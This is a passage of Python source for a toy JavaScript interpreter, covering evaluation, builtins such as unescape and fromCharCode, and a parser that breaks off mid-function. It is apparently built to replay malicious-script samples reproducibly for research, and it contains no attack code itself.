        self, target: ast.MemberExpression, value: Any, env: Environment, this: Any
    ) -> None:
        obj = self.eval_expression(target.obj, env, this)
        name = self._member_name(target, env, this)
        self._set_member_value(obj, name, value)

    def _set_member_value(self, obj: Any, name: str, value: Any) -> None:
        """Property-write kernel shared with the bytecode VM."""
        if isinstance(obj, JSObject):
            obj.set(name, value)
            return
        if obj is UNDEFINED or obj is None:
            raise JSRuntimeError(
                f"cannot set property {name!r} of {to_string(obj)}", "TypeError"
            )
        # Primitive property writes are silently dropped (as in JS).

    def _member_name(self, node: ast.MemberExpression, env: Environment, this: Any) -> str:
        if node.computed:
            return to_string(self.eval_expression(node.prop, env, this))
        assert isinstance(node.prop, ast.Identifier)
        return node.prop.name

    def _eval_MemberExpression(
        self, node: ast.MemberExpression, env: Environment, this: Any
    ) -> Any:
        obj = self.eval_expression(node.obj, env, this)
        name = self._member_name(node, env, this)
        return self.get_property(obj, name)

    def get_property(self, obj: Any, name: str) -> Any:
        from repro.js.builtins import array_method, primitive_property

        if isinstance(obj, JSObject):
            if obj.has(name) or (isinstance(obj, JSArray) and (name == "length" or name.isdigit())):
                return obj.get(name)
            if isinstance(obj, JSArray):
                method = array_method(self, obj, name)
                if method is not None:
                    return method
            if name == "hasOwnProperty":
                return self.native(
                    "hasOwnProperty",
                    lambda i, t, a: isinstance(t, JSObject)
                    and to_string(a[0] if a else UNDEFINED) in t.properties,
                )
            if name == "toString":
                return self.native("toString", lambda i, t, a: to_string(t))
            return UNDEFINED
        if obj is UNDEFINED or obj is None:
            raise JSRuntimeError(
                f"cannot read property {name!r} of {to_string(obj)}", "TypeError"
            )
        return primitive_property(self, obj, name)

    def _eval_CallExpression(self, node: ast.CallExpression, env: Environment, this: Any) -> Any:
        if isinstance(node.callee, ast.MemberExpression):
            # Charging rule: the callee member node costs one step, the
            # same as evaluating `obj.m` outside a call position.
            self._tick()
            receiver = self.eval_expression(node.callee.obj, env, this)
            name = self._member_name(node.callee, env, this)
            fn = self.get_property(receiver, name)
            args = [self.eval_expression(arg, env, this) for arg in node.arguments]
            if not is_callable(fn):
                raise JSRuntimeError(f"{name} is not a function", "TypeError")
            return self._call(fn, receiver, args, env=env)
        if isinstance(node.callee, ast.Identifier) and node.callee.name == "eval":
            # Direct eval: execute in the caller's scope.
            args = [self.eval_expression(arg, env, this) for arg in node.arguments]
            return self.eval_in_scope(args[0] if args else UNDEFINED, env, this)
        fn = self.eval_expression(node.callee, env, this)
        args = [self.eval_expression(arg, env, this) for arg in node.arguments]
        if not is_callable(fn):
            raise JSRuntimeError("value is not a function", "TypeError")
        return self._call(fn, self.global_this, args, env=env)

    def eval_in_scope(self, code: Any, env: Environment, this: Any) -> Any:
        """Direct ``eval`` semantics."""
        if not isinstance(code, str):
            return code
        program = parse(code)
        self._hoist(program.body, env)
        result: Any = UNDEFINED
        for statement in program.body:
            result = self.exec_statement(statement, env, this)
        return result

    def _eval_NewExpression(self, node: ast.NewExpression, env: Environment, this: Any) -> Any:
        fn = self.eval_expression(node.callee, env, this)
        args = [self.eval_expression(arg, env, this) for arg in node.arguments]
        return self._construct(fn, args)

    def _construct(self, fn: Any, args: List[Any]) -> Any:
        """Constructor-call kernel shared with the bytecode VM."""
        if not is_callable(fn):
            raise JSRuntimeError("constructor is not a function", "TypeError")
        prototype = fn.get("prototype") if isinstance(fn, JSObject) else UNDEFINED
        if not isinstance(prototype, JSObject):
            # Every function gets a default prototype object on first
            # construction (so `instanceof` works as in real JS).
            prototype = JSObject()
            if isinstance(fn, JSObject):
                fn.set("prototype", prototype)
        instance = JSObject(prototype=prototype)
        result = self._call(fn, instance, args)
        return result if isinstance(result, JSObject) else instance

    # -- calls -----------------------------------------------------------------

    def _call(
        self,
        fn: Any,
        this: Any,
        args: List[Any],
        env: Optional[Environment] = None,
    ) -> Any:
        del env  # call-site scope is irrelevant to both call kinds
        profile = self._profile
        if profile is not None:
            name = getattr(fn, "name", None) or "(anonymous)"
            start = profile.enter_call(name)
            try:
                return self._call_inner(fn, this, args)
            finally:
                profile.exit_call(name, start)
        return self._call_inner(fn, this, args)

    def _call_inner(self, fn: Any, this: Any, args: List[Any]) -> Any:
        if isinstance(fn, NativeFunction):
            return fn.fn(self, this, args)
        if isinstance(fn, JSFunction):
            call_env = Environment(fn.closure)
            if fn.name:
                # Named function expressions can refer to themselves.
                call_env.declare(fn.name, fn)
            for index, param in enumerate(fn.params):
                call_env.declare(param, args[index] if index < len(args) else UNDEFINED)
            call_env.declare("arguments", JSArray(list(args)))
            self._hoist(fn.body.statements, call_env)
            try:
                self._exec_Block(fn.body, call_env, this)
            except ReturnSignal as signal:
                return signal.value
            return UNDEFINED
        raise JSRuntimeError("value is not callable", "TypeError")


def evaluate(source: str, **kwargs: Any) -> Any:
    """One-shot convenience: run ``source`` in a fresh interpreter."""
    return Interpreter(**kwargs).run(source)
