"""Built-in globals and primitive methods for the JavaScript engine.

Covers the surface the corpus and instrumentation code actually use:
``unescape`` (heap sprays), ``String.fromCharCode`` (shellcode
builders), string slicing/search, array manipulation, ``Math``,
``parseInt`` and friends.  ``Math.random`` is deterministic per
interpreter (seeded LCG) so every experiment is reproducible.
"""

from __future__ import annotations

import math
from typing import Any, List, Optional

from repro.js.errors import JSRuntimeError
from repro.js.values import (
    JSArray,
    JSObject,
    NativeFunction,
    UNDEFINED,
    format_number,
    is_callable,
    to_number,
    to_string,
    truthy,
)


def _arg(args: List[Any], index: int, default: Any = UNDEFINED) -> Any:
    return args[index] if index < len(args) else default


def _string_from_char_code(interp: Any, this: Any, args: List[Any]) -> str:
    # Single float argument is the shellcode-builder hot path.
    if len(args) == 1 and type(args[0]) is float:
        return chr(int(args[0]) & 0xFFFF)
    return interp._record_string(
        "".join(chr(int(to_number(x)) & 0xFFFF) for x in args)
    )


# ---------------------------------------------------------------------------
# Global functions


def _unescape(interp: Any, this: Any, args: List[Any]) -> str:
    text = to_string(_arg(args, 0, ""))
    out: List[str] = []
    i = 0
    n = len(text)
    while i < n:
        ch = text[i]
        if ch == "%" and i + 5 < n + 1 and i + 1 < n and text[i + 1] in "uU":
            digits = text[i + 2 : i + 6]
            if len(digits) == 4 and _is_hex(digits):
                out.append(chr(int(digits, 16)))
                i += 6
                continue
        if ch == "%" and i + 2 < n + 1:
            digits = text[i + 1 : i + 3]
            if len(digits) == 2 and _is_hex(digits):
                out.append(chr(int(digits, 16)))
                i += 3
                continue
        out.append(ch)
        i += 1
    result = "".join(out)
    interp._record_string(result)
    return result


def _escape(interp: Any, this: Any, args: List[Any]) -> str:
    text = to_string(_arg(args, 0, ""))
    out: List[str] = []
    for ch in text:
        code = ord(ch)
        if ch.isalnum() or ch in "@*_+-./":
            out.append(ch)
        elif code < 256:
            out.append("%%%02X" % code)
        else:
            out.append("%%u%04X" % code)
    return interp._record_string("".join(out))


def _is_hex(text: str) -> bool:
    return all(c in "0123456789abcdefABCDEF" for c in text)


def _parse_int(interp: Any, this: Any, args: List[Any]) -> float:
    text = to_string(_arg(args, 0, "")).strip()
    radix_value = _arg(args, 1, UNDEFINED)
    radix = int(to_number(radix_value)) if radix_value is not UNDEFINED else 0
    sign = 1
    if text.startswith(("-", "+")):
        sign = -1 if text[0] == "-" else 1
        text = text[1:]
    if radix in (0, 16) and text[:2].lower() == "0x":
        text = text[2:]
        radix = 16
    if radix == 0:
        radix = 10
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"[:radix]
    end = 0
    while end < len(text) and text[end].lower() in digits:
        end += 1
    if end == 0:
        return math.nan
    return float(sign * int(text[:end], radix))


def _parse_float(interp: Any, this: Any, args: List[Any]) -> float:
    text = to_string(_arg(args, 0, "")).strip()
    end = 0
    seen_dot = seen_e = False
    while end < len(text):
        ch = text[end]
        if ch.isdigit():
            end += 1
        elif ch == "." and not seen_dot and not seen_e:
            seen_dot = True
            end += 1
        elif ch in "eE" and not seen_e and end > 0:
            seen_e = True
            end += 1
            if end < len(text) and text[end] in "+-":
                end += 1
        elif ch in "+-" and end == 0:
            end += 1
        else:
            break
    try:
        return float(text[:end])
    except ValueError:
        return math.nan


class _SeededRandom:
    """Deterministic LCG so Math.random() is reproducible."""

    def __init__(self, seed: int = 0x2545F491) -> None:
        self.state = seed & 0x7FFFFFFF or 1

    def next(self) -> float:
        self.state = (self.state * 48271) % 0x7FFFFFFF
        return self.state / 0x7FFFFFFF


# ---------------------------------------------------------------------------
# Installation


def install_globals(interp: Any) -> None:
    """Install the standard global environment into ``interp``."""
    env = interp.global_env
    rng = _SeededRandom()

    env.declare("NaN", math.nan)
    env.declare("Infinity", math.inf)
    env.declare("undefined", UNDEFINED)

    env.declare("unescape", NativeFunction("unescape", _unescape))
    env.declare("escape", NativeFunction("escape", _escape))
    env.declare("parseInt", NativeFunction("parseInt", _parse_int))
    env.declare("parseFloat", NativeFunction("parseFloat", _parse_float))
    env.declare(
        "isNaN",
        NativeFunction("isNaN", lambda i, t, a: math.isnan(to_number(_arg(a, 0)))),
    )
    env.declare(
        "isFinite",
        NativeFunction("isFinite", lambda i, t, a: math.isfinite(to_number(_arg(a, 0)))),
    )
    env.declare(
        "eval",
        NativeFunction(
            "eval", lambda i, t, a: i.eval_in_scope(_arg(a, 0), i.global_env, i.global_this)
        ),
    )

    string_ctor = NativeFunction("String", lambda i, t, a: to_string(_arg(a, 0, "")))
    string_ctor.set(
        "fromCharCode", NativeFunction("fromCharCode", _string_from_char_code)
    )
    env.declare("String", string_ctor)

    env.declare("Number", NativeFunction("Number", lambda i, t, a: to_number(_arg(a, 0, 0.0))))
    env.declare("Boolean", NativeFunction("Boolean", lambda i, t, a: truthy(_arg(a, 0))))

    def _array_ctor(i: Any, t: Any, a: List[Any]) -> JSArray:
        if len(a) == 1 and isinstance(a[0], float):
            return JSArray([UNDEFINED] * int(a[0]))
        return JSArray(list(a))

    env.declare("Array", NativeFunction("Array", _array_ctor))

    object_ctor = NativeFunction("Object", lambda i, t, a: JSObject())
    object_ctor.set("prototype", JSObject())
    env.declare("Object", object_ctor)

    math_obj = JSObject(class_name="Math")
    math_obj.set("PI", math.pi)
    math_obj.set("E", math.e)
    for name, fn in {
        "floor": lambda i, t, a: float(math.floor(to_number(_arg(a, 0)))),
        "ceil": lambda i, t, a: float(math.ceil(to_number(_arg(a, 0)))),
        "round": lambda i, t, a: float(math.floor(to_number(_arg(a, 0)) + 0.5)),
        "abs": lambda i, t, a: abs(to_number(_arg(a, 0))),
        "sqrt": lambda i, t, a: math.sqrt(to_number(_arg(a, 0))) if to_number(_arg(a, 0)) >= 0 else math.nan,
        "pow": lambda i, t, a: float(to_number(_arg(a, 0)) ** to_number(_arg(a, 1))),
        "max": lambda i, t, a: max((to_number(x) for x in a), default=-math.inf),
        "min": lambda i, t, a: min((to_number(x) for x in a), default=math.inf),
        "log": lambda i, t, a: (
            math.log(to_number(_arg(a, 0))) if to_number(_arg(a, 0)) > 0 else -math.inf
            if to_number(_arg(a, 0)) == 0 else math.nan
        ),
        "exp": lambda i, t, a: math.exp(to_number(_arg(a, 0))),
        "sin": lambda i, t, a: math.sin(to_number(_arg(a, 0))),
        "cos": lambda i, t, a: math.cos(to_number(_arg(a, 0))),
        "atan": lambda i, t, a: math.atan(to_number(_arg(a, 0))),
    }.items():
        math_obj.set(name, NativeFunction(name, fn))
    math_obj.set("random", NativeFunction("random", lambda i, t, a: rng.next()))
    env.declare("Math", math_obj)

    error_ctor = NativeFunction(
        "Error",
        lambda i, t, a: _init_error(t, a),
    )
    error_ctor.set("prototype", JSObject({"name": "Error"}))
    env.declare("Error", error_ctor)

    env.declare("Date", _make_date_constructor(interp))


#: Epoch base for the virtual Date: 2013-06-01T00:00:00Z — inside the
#: paper's data-collection window, so date-gated samples behave.
_VIRTUAL_EPOCH_MS = 1370044800000.0


def _make_date_constructor(interp: Any) -> NativeFunction:
    """A minimal ``Date``: enough for timestamp/stamping scripts.

    Time comes from the host's virtual clock, so runs are reproducible.
    """

    def _date_ctor(i: Any, t: Any, a: List[Any]) -> JSObject:
        if a:
            millis = to_number(_arg(a, 0, 0.0))
        else:
            millis = _VIRTUAL_EPOCH_MS + i.host.now_seconds() * 1000.0
        target = t if isinstance(t, JSObject) else JSObject()
        target.class_name = "Date"
        target.set("getTime", NativeFunction("getTime", lambda i2, t2, a2: millis))
        target.set("valueOf", NativeFunction("valueOf", lambda i2, t2, a2: millis))
        seconds = millis / 1000.0
        days = seconds / 86400.0
        target.set(
            "getFullYear",
            NativeFunction("getFullYear", lambda i2, t2, a2: float(1970 + int(days / 365.2425))),
        )
        target.set(
            "toString",
            NativeFunction("toString", lambda i2, t2, a2: f"[Date {millis:.0f}ms]"),
        )
        return target

    ctor = NativeFunction("Date", _date_ctor)
    ctor.set(
        "now",
        NativeFunction(
            "now",
            lambda i, t, a: _VIRTUAL_EPOCH_MS + i.host.now_seconds() * 1000.0,
        ),
    )
    return ctor


def _init_error(this: Any, args: List[Any]) -> Any:
    target = this if isinstance(this, JSObject) else JSObject()
    target.set("message", to_string(_arg(args, 0, "")))
    target.set("name", "Error")
    return target


# ---------------------------------------------------------------------------
# Primitive (string / number / boolean) property access


def primitive_property(interp: Any, obj: Any, name: str) -> Any:
    if isinstance(obj, str):
        return _string_property(interp, obj, name)
    if isinstance(obj, (int, float)):
        return _number_property(interp, float(obj), name)
    if isinstance(obj, bool):
        return _number_property(interp, 1.0 if obj else 0.0, name)
    raise JSRuntimeError(f"cannot read property {name!r}", "TypeError")


def _clamp_index(x: Any, default: float) -> int:
    number = to_number(x) if x is not UNDEFINED else default
    if math.isnan(number):
        number = 0.0
    return int(number)


def _str_char_at(interp: Any, value: str, args: List[Any]) -> str:
    index = _clamp_index(_arg(args, 0, 0.0), 0.0)
    return value[index] if 0 <= index < len(value) else ""


def _str_char_code_at(interp: Any, value: str, args: List[Any]) -> float:
    # Float index is the deobfuscation-loop hot path (int(nan) would
    # raise, so NaN still detours through _clamp_index).
    if args:
        index_value = args[0]
        if type(index_value) is float and index_value == index_value:
            index = int(index_value)
            return float(ord(value[index])) if 0 <= index < len(value) else math.nan
    index = _clamp_index(_arg(args, 0, 0.0), 0.0)
    return float(ord(value[index])) if 0 <= index < len(value) else math.nan


def _str_index_of(interp: Any, value: str, args: List[Any]) -> float:
    return float(value.find(to_string(_arg(args, 0, "")), _clamp_index(_arg(args, 1, 0.0), 0.0)))


def _str_last_index_of(interp: Any, value: str, args: List[Any]) -> float:
    return float(value.rfind(to_string(_arg(args, 0, ""))))


def _str_replace(interp: Any, value: str, args: List[Any]) -> str:
    return interp._record_string(
        value.replace(to_string(_arg(args, 0, "")), to_string(_arg(args, 1, "")), 1)
    )


def _str_concat(interp: Any, value: str, args: List[Any]) -> str:
    return interp._record_string(value + "".join(to_string(x) for x in args))


#: String methods keyed by name, signature ``(interp, value, args)``
#: where ``value`` is the receiver string.  Shared by the tree-walker
#: (wrapped per access in a NativeFunction below) and dispatched
#: directly — no wrapper allocation — by the bytecode VM's
#: string-method fast path.  Heap accounting (``_record_string``) lives
#: inside each method, so both engines charge identically.
STRING_METHODS = {
    "charAt": _str_char_at,
    "charCodeAt": _str_char_code_at,
    "indexOf": _str_index_of,
    "lastIndexOf": _str_last_index_of,
    "substring": lambda i, v, a: i._record_string(_substring(v, a)),
    "substr": lambda i, v, a: i._record_string(_substr(v, a)),
    "slice": lambda i, v, a: i._record_string(_slice_str(v, a)),
    "toUpperCase": lambda i, v, a: i._record_string(v.upper()),
    "toLowerCase": lambda i, v, a: i._record_string(v.lower()),
    "split": lambda i, v, a: _split(v, a),
    "replace": _str_replace,
    "concat": _str_concat,
    "trim": lambda i, v, a: i._record_string(v.strip()),
    "toString": lambda i, v, a: v,
    "valueOf": lambda i, v, a: v,
}


def _string_property(interp: Any, value: str, name: str) -> Any:
    if name == "length":
        return float(len(value))
    if name.isdigit():
        index = int(name)
        return value[index] if 0 <= index < len(value) else UNDEFINED
    fn = STRING_METHODS.get(name)
    if fn is None:
        return UNDEFINED
    return NativeFunction(name, lambda i, t, a, _fn=fn, _v=value: _fn(i, _v, a))


def _substring(value: str, args: List[Any]) -> str:
    start = int(max(0, min(len(value), to_number(_arg(args, 0, 0.0)) if _arg(args, 0, UNDEFINED) is not UNDEFINED else 0)))
    end_arg = _arg(args, 1, UNDEFINED)
    end = int(max(0, min(len(value), to_number(end_arg)))) if end_arg is not UNDEFINED else len(value)
    if start > end:
        start, end = end, start
    return value[start:end]


def _substr(value: str, args: List[Any]) -> str:
    start = int(to_number(_arg(args, 0, 0.0)))
    if start < 0:
        start = max(0, len(value) + start)
    length_arg = _arg(args, 1, UNDEFINED)
    length = int(to_number(length_arg)) if length_arg is not UNDEFINED else len(value)
    return value[start : start + max(0, length)]


def _slice_str(value: str, args: List[Any]) -> str:
    start_arg = _arg(args, 0, UNDEFINED)
    end_arg = _arg(args, 1, UNDEFINED)
    start = int(to_number(start_arg)) if start_arg is not UNDEFINED else 0
    end: Optional[int] = int(to_number(end_arg)) if end_arg is not UNDEFINED else None
    return value[start:end]


def _split(value: str, args: List[Any]) -> JSArray:
    separator = _arg(args, 0, UNDEFINED)
    if separator is UNDEFINED:
        return JSArray([value])
    sep = to_string(separator)
    if sep == "":
        return JSArray(list(value))
    return JSArray(value.split(sep))


def _number_property(interp: Any, value: float, name: str) -> Any:
    methods = {
        "toString": lambda i, t, a: _number_to_string(value, a),
        "valueOf": lambda i, t, a: value,
        "toFixed": lambda i, t, a: f"{value:.{int(to_number(_arg(a, 0, 0.0)))}f}",
    }
    fn = methods.get(name)
    if fn is None:
        return UNDEFINED
    return NativeFunction(name, fn)


def _number_to_string(value: float, args: List[Any]) -> str:
    radix_arg = _arg(args, 0, UNDEFINED)
    if radix_arg is UNDEFINED:
        return format_number(value)
    radix = int(to_number(radix_arg))
    if radix == 10:
        return format_number(value)
    if not 2 <= radix <= 36 or math.isnan(value) or math.isinf(value):
        return format_number(value)
    integer = int(abs(value))
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    out = []
    while integer:
        out.append(digits[integer % radix])
        integer //= radix
    text = "".join(reversed(out)) or "0"
    return "-" + text if value < 0 else text


# ---------------------------------------------------------------------------
# Array methods (shared, dispatched from Interpreter.get_property)


def array_method(interp: Any, array: JSArray, name: str) -> Any:
    fn = ARRAY_METHODS.get(name)
    if fn is None:
        return None
    return NativeFunction(name, fn)


def _array_push(interp: Any, this: JSArray, args: List[Any]) -> float:
    this.elements.extend(args)
    return float(len(this.elements))


def _array_pop(interp: Any, this: JSArray, args: List[Any]) -> Any:
    return this.elements.pop() if this.elements else UNDEFINED


def _array_shift(interp: Any, this: JSArray, args: List[Any]) -> Any:
    return this.elements.pop(0) if this.elements else UNDEFINED


def _array_unshift(interp: Any, this: JSArray, args: List[Any]) -> float:
    this.elements[:0] = args
    return float(len(this.elements))


def _array_join(interp: Any, this: JSArray, args: List[Any]) -> str:
    separator = to_string(_arg(args, 0, ",")) if args else ","
    result = separator.join(
        "" if (el is UNDEFINED or el is None) else to_string(el) for el in this.elements
    )
    return interp._record_string(result)


def _array_concat(interp: Any, this: JSArray, args: List[Any]) -> JSArray:
    merged = list(this.elements)
    for arg in args:
        if isinstance(arg, JSArray):
            merged.extend(arg.elements)
        else:
            merged.append(arg)
    return JSArray(merged)


def _array_slice(interp: Any, this: JSArray, args: List[Any]) -> JSArray:
    start_arg = _arg(args, 0, UNDEFINED)
    end_arg = _arg(args, 1, UNDEFINED)
    start = int(to_number(start_arg)) if start_arg is not UNDEFINED else 0
    end: Optional[int] = int(to_number(end_arg)) if end_arg is not UNDEFINED else None
    return JSArray(this.elements[start:end])


def _array_reverse(interp: Any, this: JSArray, args: List[Any]) -> JSArray:
    this.elements.reverse()
    return this


def _array_index_of(interp: Any, this: JSArray, args: List[Any]) -> float:
    from repro.js.values import strict_equals

    needle = _arg(args, 0)
    for index, element in enumerate(this.elements):
        if strict_equals(element, needle):
            return float(index)
    return -1.0


def _array_splice(interp: Any, this: JSArray, args: List[Any]) -> JSArray:
    length = len(this.elements)
    start = int(to_number(_arg(args, 0, 0.0)))
    if start < 0:
        start = max(0, length + start)
    start = min(start, length)
    delete_arg = _arg(args, 1, UNDEFINED)
    delete_count = (
        int(to_number(delete_arg)) if delete_arg is not UNDEFINED else length - start
    )
    delete_count = max(0, min(delete_count, length - start))
    removed = this.elements[start : start + delete_count]
    this.elements[start : start + delete_count] = list(args[2:])
    return JSArray(removed)


def _array_sort(interp: Any, this: JSArray, args: List[Any]) -> JSArray:
    comparator = _arg(args, 0, UNDEFINED)
    if is_callable(comparator):
        import functools

        def compare(a: Any, b: Any) -> int:
            result = to_number(interp.call_function(comparator, UNDEFINED, [a, b]))
            if math.isnan(result):
                return 0
            return -1 if result < 0 else (1 if result > 0 else 0)

        this.elements.sort(key=functools.cmp_to_key(compare))
    else:
        this.elements.sort(key=to_string)
    return this


#: Array methods keyed by name, signature ``(interp, this, args)``.
#: Module-level so a lookup allocates nothing but the NativeFunction.
ARRAY_METHODS = {
    "push": _array_push,
    "pop": _array_pop,
    "shift": _array_shift,
    "unshift": _array_unshift,
    "join": _array_join,
    "concat": _array_concat,
    "slice": _array_slice,
    "reverse": _array_reverse,
    "indexOf": _array_index_of,
    "sort": _array_sort,
    "splice": _array_splice,
    "toString": lambda i, t, a: to_string(t),
}
