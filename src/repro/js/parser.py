"""Recursive-descent / Pratt parser for the JavaScript subset."""

from __future__ import annotations

from typing import List, Optional, Tuple

from repro.js import nodes as ast
from repro.js.errors import JSSyntaxError
from repro.js.lexer import Token, TokenType, tokenize

#: Binary operator precedence (higher binds tighter).
_BINARY_PRECEDENCE = {
    "||": 1,
    "&&": 2,
    "|": 3,
    "^": 4,
    "&": 5,
    "==": 6, "!=": 6, "===": 6, "!==": 6,
    "<": 7, ">": 7, "<=": 7, ">=": 7, "instanceof": 7, "in": 7,
    "<<": 8, ">>": 8, ">>>": 8,
    "+": 9, "-": 9,
    "*": 10, "/": 10, "%": 10,
}

_ASSIGNMENT_OPS = {"=", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=", "<<=", ">>=", ">>>="}


class Parser:
    """Parses a token list into a :class:`~repro.js.nodes.Program`."""

    def __init__(self, source: str) -> None:
        self.tokens = tokenize(source)
        self.pos = 0

    # -- token plumbing ---------------------------------------------------

    @property
    def current(self) -> Token:
        return self.tokens[self.pos]

    def advance(self) -> Token:
        token = self.tokens[self.pos]
        if token.type is not TokenType.EOF:
            self.pos += 1
        return token

    def error(self, message: str) -> JSSyntaxError:
        token = self.current
        return JSSyntaxError(f"{message} (got {token.value!r})", token.line, token.column)

    def expect_op(self, op: str) -> Token:
        if not self.current.is_op(op):
            raise self.error(f"expected {op!r}")
        return self.advance()

    def eat_op(self, op: str) -> bool:
        if self.current.is_op(op):
            self.advance()
            return True
        return False

    def eat_keyword(self, word: str) -> bool:
        if self.current.is_keyword(word):
            self.advance()
            return True
        return False

    def consume_semicolon(self) -> None:
        """Semicolons are optional at '}' and EOF (simplified ASI)."""
        if self.eat_op(";"):
            return
        if self.current.is_op("}") or self.current.type is TokenType.EOF:
            return
        # Newline-based ASI: accept if the previous token ended a line
        # before this one starts.
        if self.pos > 0 and self.tokens[self.pos - 1].line < self.current.line:
            return
        raise self.error("expected ';'")

    # -- program ------------------------------------------------------------

    def parse_program(self) -> ast.Program:
        body: List[ast.Node] = []
        while self.current.type is not TokenType.EOF:
            body.append(self.parse_statement())
        return ast.Program(body)

    # -- statements -----------------------------------------------------------

    def parse_statement(self) -> ast.Node:
        token = self.current
        if token.is_op("{"):
            return self.parse_block()
        if token.is_op(";"):
            self.advance()
            return ast.EmptyStatement()
        if token.type is TokenType.KEYWORD:
            word = str(token.value)
            handler = {
                "var": self._parse_var,
                "if": self._parse_if,
                "while": self._parse_while,
                "do": self._parse_do_while,
                "for": self._parse_for,
                "function": self._parse_function_declaration,
                "return": self._parse_return,
                "break": self._parse_break,
                "continue": self._parse_continue,
                "throw": self._parse_throw,
                "try": self._parse_try,
                "switch": self._parse_switch,
            }.get(word)
            if handler is not None:
                return handler()
        expr = self.parse_expression()
        self.consume_semicolon()
        return ast.ExpressionStatement(expr)

    def parse_block(self) -> ast.Block:
        self.expect_op("{")
        statements: List[ast.Node] = []
        while not self.current.is_op("}"):
            if self.current.type is TokenType.EOF:
                raise self.error("unterminated block")
            statements.append(self.parse_statement())
        self.advance()
        return ast.Block(statements)

    def _parse_var(self) -> ast.Node:
        self.advance()  # var
        declaration = self._parse_var_declarations()
        self.consume_semicolon()
        return declaration

    def _parse_var_declarations(self) -> ast.VarDeclaration:
        declarations: List[Tuple[str, Optional[ast.Node]]] = []
        while True:
            name_token = self.advance()
            if name_token.type is not TokenType.IDENTIFIER:
                raise self.error("expected variable name")
            init: Optional[ast.Node] = None
            if self.eat_op("="):
                init = self.parse_assignment()
            declarations.append((str(name_token.value), init))
            if not self.eat_op(","):
                break
        return ast.VarDeclaration(declarations)

    def _parse_if(self) -> ast.Node:
        self.advance()
        self.expect_op("(")
        test = self.parse_expression()
        self.expect_op(")")
        consequent = self.parse_statement()
        alternate = self.parse_statement() if self.eat_keyword("else") else None
        return ast.IfStatement(test, consequent, alternate)

    def _parse_while(self) -> ast.Node:
        self.advance()
        self.expect_op("(")
        test = self.parse_expression()
        self.expect_op(")")
        return ast.WhileStatement(test, self.parse_statement())

    def _parse_do_while(self) -> ast.Node:
        self.advance()
        body = self.parse_statement()
        if not self.eat_keyword("while"):
            raise self.error("expected 'while' after do-block")
        self.expect_op("(")
        test = self.parse_expression()
        self.expect_op(")")
        self.consume_semicolon()
        return ast.DoWhileStatement(body, test)

    def _parse_for(self) -> ast.Node:
        self.advance()
        self.expect_op("(")
        init: Optional[ast.Node] = None
        if not self.current.is_op(";"):
            if self.current.is_keyword("var"):
                self.advance()
                declaration = self._parse_var_declarations()
                if self.current.is_keyword("in") and len(declaration.declarations) == 1:
                    self.advance()
                    obj = self.parse_expression()
                    self.expect_op(")")
                    return ast.ForInStatement(declaration, obj, self.parse_statement())
                init = declaration
            else:
                expr = self.parse_expression(no_in=True)
                if self.current.is_keyword("in"):
                    self.advance()
                    obj = self.parse_expression()
                    self.expect_op(")")
                    return ast.ForInStatement(expr, obj, self.parse_statement())
                init = ast.ExpressionStatement(expr)
        self.expect_op(";")
        test = None if self.current.is_op(";") else self.parse_expression()
        self.expect_op(";")
        update = None if self.current.is_op(")") else self.parse_expression()
        self.expect_op(")")
        return ast.ForStatement(init, test, update, self.parse_statement())

    def _parse_function_declaration(self) -> ast.Node:
        self.advance()  # function
        name_token = self.advance()
        if name_token.type is not TokenType.IDENTIFIER:
            raise self.error("expected function name")
        params = self._parse_params()
        body = self.parse_block()
        return ast.FunctionDeclaration(str(name_token.value), params, body)

    def _parse_params(self) -> List[str]:
        self.expect_op("(")
        params: List[str] = []
        if not self.current.is_op(")"):
            while True:
                token = self.advance()
                if token.type is not TokenType.IDENTIFIER:
                    raise self.error("expected parameter name")
                params.append(str(token.value))
                if not self.eat_op(","):
                    break
        self.expect_op(")")
        return params

    def _parse_return(self) -> ast.Node:
        keyword = self.advance()
        if (
            self.current.is_op(";")
            or self.current.is_op("}")
            or self.current.type is TokenType.EOF
            or self.current.line > keyword.line
        ):
            self.consume_semicolon()
            return ast.ReturnStatement(None)
        value = self.parse_expression()
        self.consume_semicolon()
        return ast.ReturnStatement(value)

    def _parse_break(self) -> ast.Node:
        self.advance()
        self.consume_semicolon()
        return ast.BreakStatement()

    def _parse_continue(self) -> ast.Node:
        self.advance()
        self.consume_semicolon()
        return ast.ContinueStatement()

    def _parse_throw(self) -> ast.Node:
        self.advance()
        value = self.parse_expression()
        self.consume_semicolon()
        return ast.ThrowStatement(value)

    def _parse_try(self) -> ast.Node:
        self.advance()
        block = self.parse_block()
        catch_param: Optional[str] = None
        catch_block: Optional[ast.Block] = None
        finally_block: Optional[ast.Block] = None
        if self.eat_keyword("catch"):
            self.expect_op("(")
            param_token = self.advance()
            if param_token.type is not TokenType.IDENTIFIER:
                raise self.error("expected catch parameter")
            catch_param = str(param_token.value)
            self.expect_op(")")
            catch_block = self.parse_block()
        if self.eat_keyword("finally"):
            finally_block = self.parse_block()
        if catch_block is None and finally_block is None:
            raise self.error("try needs catch or finally")
        return ast.TryStatement(block, catch_param, catch_block, finally_block)

    def _parse_switch(self) -> ast.Node:
        self.advance()
        self.expect_op("(")
        discriminant = self.parse_expression()
        self.expect_op(")")
        self.expect_op("{")
        cases: List[ast.SwitchCase] = []
        while not self.current.is_op("}"):
            if self.eat_keyword("case"):
                test: Optional[ast.Node] = self.parse_expression()
            elif self.eat_keyword("default"):
                test = None
            else:
                raise self.error("expected 'case' or 'default'")
            self.expect_op(":")
            body: List[ast.Node] = []
            while not (
                self.current.is_op("}")
                or self.current.is_keyword("case")
                or self.current.is_keyword("default")
            ):
                body.append(self.parse_statement())
            cases.append(ast.SwitchCase(test, body))
        self.advance()
        return ast.SwitchStatement(discriminant, cases)

    # -- expressions -------------------------------------------------------

    def parse_expression(self, no_in: bool = False) -> ast.Node:
        expr = self.parse_assignment(no_in=no_in)
        if not self.current.is_op(","):
            return expr
        expressions = [expr]
        while self.eat_op(","):
            expressions.append(self.parse_assignment(no_in=no_in))
        return ast.SequenceExpression(expressions)

    def parse_assignment(self, no_in: bool = False) -> ast.Node:
        left = self._parse_conditional(no_in=no_in)
        if self.current.type is TokenType.OPERATOR and self.current.value in _ASSIGNMENT_OPS:
            op = str(self.advance().value)
            if not isinstance(left, (ast.Identifier, ast.MemberExpression)):
                raise self.error("invalid assignment target")
            value = self.parse_assignment(no_in=no_in)
            return ast.AssignmentExpression(op, left, value)
        return left

    def _parse_conditional(self, no_in: bool = False) -> ast.Node:
        test = self._parse_binary(0, no_in=no_in)
